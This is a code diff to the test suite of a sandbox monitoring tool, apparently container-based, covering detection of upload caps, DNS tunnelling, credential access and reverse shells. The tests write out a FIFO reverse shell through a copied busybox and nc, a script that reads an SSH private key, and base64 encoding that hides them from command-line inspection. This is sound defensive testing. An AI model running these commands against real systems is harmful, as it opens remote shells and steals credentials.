@@ -58,12 +58,15 @@ threading.Thread(target=accept, daemon=True).start()
 log = open(dns_log, "a", buffering=1)
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((addr, 53))
 while True:
-    q, peer = s.recvfrom(512)
-    i, labels = 12, []
-    while i < len(q) and q[i]:
-        labels.append(q[i + 1 : i + 1 + q[i]].decode(errors="replace")); i += 1 + q[i]
-    log.write(".".join(labels) + "\n")
-    s.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00\x00\x00\x00\x00\x00" + q[12 : i + 5], peer)
+    try:  # one odd packet must not end the server
+        q, peer = s.recvfrom(512)
+        i, labels = 12, []
+        while i < len(q) and q[i]:
+            labels.append(q[i + 1 : i + 1 + q[i]].decode(errors="replace")); i += 1 + q[i]
+        log.write(".".join(labels) + "\n")
+        s.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00" * 6 + q[12 : i + 5], peer)
+    except OSError:
+        pass
 """
 
 
@@ -255,7 +258,7 @@ def test_a_stream_to_an_outside_host_is_cut_at_the_cap_and_the_sandbox_paused(
         wait_for(
             lambda: any(e["title"] == "Upload limit reached" for e in _events(env)),
             "the upload to be stopped",
-            90,
+            150,
         )
         wait_for(lambda: _frozen(client), "the sandbox to be paused", 10)
         (event,) = [e for e in _events(env) if e["title"] == "Upload limit reached"]
@@ -306,7 +309,7 @@ def test_data_in_dns_names_is_a_tunnel_whatever_the_label_length(
         wait_for(
             lambda: any(e["title"] == "DNS tunnel" for e in _events(env)),
             "the tunnel to be seen",
-            90,
+            150,
         )
         (event,) = [e for e in _events(env) if e["title"] == "DNS tunnel"]
         assert (event["level"], event["action"]) == ("high", "paused")
@@ -317,15 +320,15 @@ def test_data_in_dns_names_is_a_tunnel_whatever_the_label_length(
         _end(client, proc)
 
 
-def test_a_key_held_open_by_a_renamed_binary_is_a_credential_hunt(
+def test_a_key_held_open_by_a_copied_binary_is_a_credential_hunt(
     client: IncusClient, env: dict[str, str], ws: Path
 ) -> None:
     """A script (it reaches the container encoded: no command line names a key) copies
-    busybox to /tmp/kworker and reads a private key through it: seen by the process's open
+    busybox to /tmp/bb and reads a private key through it: seen by the process's open
     files, not by any text."""
     script = (
         'mkdir -p "$HOME/.ssh" && echo not-a-real-key > "$HOME/.ssh/id_ed25519"\n'
-        'cp /bin/busybox /tmp/kworker && /tmp/kworker sleep 4 < "$HOME/.ssh/id_ed25519"\n'
+        'cp /bin/busybox /tmp/bb && /tmp/bb sleep 4 < "$HOME/.ssh/id_ed25519"\n'
     )
     encoded = base64.b64encode(script.encode()).decode()
     res = subprocess.run(
@@ -339,4 +342,30 @@ def test_a_key_held_open_by_a_renamed_binary_is_a_credential_hunt(
     hunts = [e for e in _events(env) if e["title"] == "Credential access detected"]
     assert hunts, _events(env)
     assert any("/.ssh/id_ed25519" in f for e in hunts for f in e["evidence"]["files"])
-    assert any("kworker" in e["evidence"]["process"]["command"] for e in hunts)
+    assert any("/tmp/bb sleep" in e["evidence"]["process"]["command"] for e in hunts)
+
+
+def test_a_shell_behind_pipes_to_a_socket_is_killed_with_connection_tables_read_lazily(
+    client: IncusClient, env: dict[str, str], ws: Path, net: Net
+) -> None:
+    """The FIFO pipeline (`cat f | sh -i | nc host port > f`) through a copy of busybox, from
+    an encoded script: no command line says shell-over-network. The sweeps read the
+    namespace's connection tables only when a process holds a new socket (or every 2 s):
+    nc's new socket makes them read, and the shell is killed."""
+    script = (
+        "rm -f /tmp/f; mkfifo /tmp/f; cp /bin/busybox /tmp/busybox\n"
+        f"/tmp/busybox cat /tmp/f | /tmp/busybox sh -i 2>&1 | /tmp/busybox nc {net.addr} "
+        f"{SINK_PORT} > /tmp/f\n"
+    )
+    encoded = base64.b64encode(script.encode()).decode()
+    res = subprocess.run(
+        coi_argv(
+            "run", "--monitor", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c",
+            f"echo {encoded} | base64 -d > /tmp/p.sh && sh /tmp/p.sh",
+        ),
+        env=env, capture_output=True, text=True, timeout=180,
+    )  # fmt: skip
+    assert res.returncode == 137, (res.returncode, res.stderr)
+    (shell,) = [e for e in _events(env) if e["title"] == "Reverse shell detected"][:1]
+    assert (shell["level"], shell["action"]) == ("critical", "killed")
+    assert "/tmp/busybox sh -i" in shell["evidence"]["process"]["command"]
